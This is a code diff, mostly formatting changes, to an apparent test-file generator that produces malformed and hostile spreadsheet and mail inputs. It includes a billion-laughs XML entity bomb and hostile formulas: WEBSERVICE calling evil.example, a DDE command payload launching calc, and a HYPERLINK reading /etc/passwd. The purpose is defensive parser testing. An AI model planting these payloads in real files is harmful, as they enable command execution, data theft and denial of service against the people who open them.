@@ -84,9 +84,9 @@ def _with_doctype(xml: bytes, doctype: str, entity: str) -> bytes:
     text = xml.decode("utf-8")
     body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
     body = re.sub(r"<t( [^>]*)?>", lambda m: m.group(0) + f"&{entity};", body, count=1)
-    return (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + body
-    ).encode("utf-8")
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + body).encode(
+        "utf-8"
+    )
 
 
 # ------------------------------------------------------------------------- categories
@@ -118,9 +118,7 @@ def malformed_xml(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Pat
 
 
 def entity_bomb(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
-    laughs = "".join(
-        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
-    )
+    laughs = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
     doctype = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>\n'
     parts = entries(seeds.pick(rng))
     name = rng.choice([_text_part(parts), sheet_names(parts)[0]])
@@ -202,13 +200,14 @@ def outside_formulas(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> 
         'WEBSERVICE("http://evil.example/?x=1")',
         "cmd|' /C calc'!A0",
         "SUM([2]Data!A1:A9)",
-        "HYPERLINK(\"file:///etc/passwd\")",
+        'HYPERLINK("file:///etc/passwd")',
     )
     parts = entries(seeds.pick(rng))
     for name in sheet_names(parts):
         text = parts[name].decode("utf-8")
         choice = rng.choice(formulas).replace("&", "&amp;").replace('"', "&quot;")
-        text = re.sub(r"<f>[^<]*</f>", lambda _: f"<f>{choice}</f>", text, count=rng.randint(1, 20))
+        planted = f"<f>{choice}</f>"
+        text = re.sub(r"<f>[^<]*</f>", lambda _, f=planted: f, text, count=rng.randint(1, 20))
 
         def plant(match: re.Match[str], formula: str = choice) -> str:
             if rng.random() < 0.02:
@@ -328,7 +327,7 @@ def broken_mail(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
     elif kind == 1:
         raw = raw.replace(b"utf-8", b"x-unknown-charset")
     elif kind == 2:
-        raw = raw.replace("年报.xlsx".encode("utf-8"), "年报.xlsx".encode("gbk"))
+        raw = raw.replace("年报.xlsx".encode(), "年报.xlsx".encode("gbk"))
     elif kind == 3:
         boundary = re.search(rb'boundary="([^"]+)"', raw)
         if boundary:
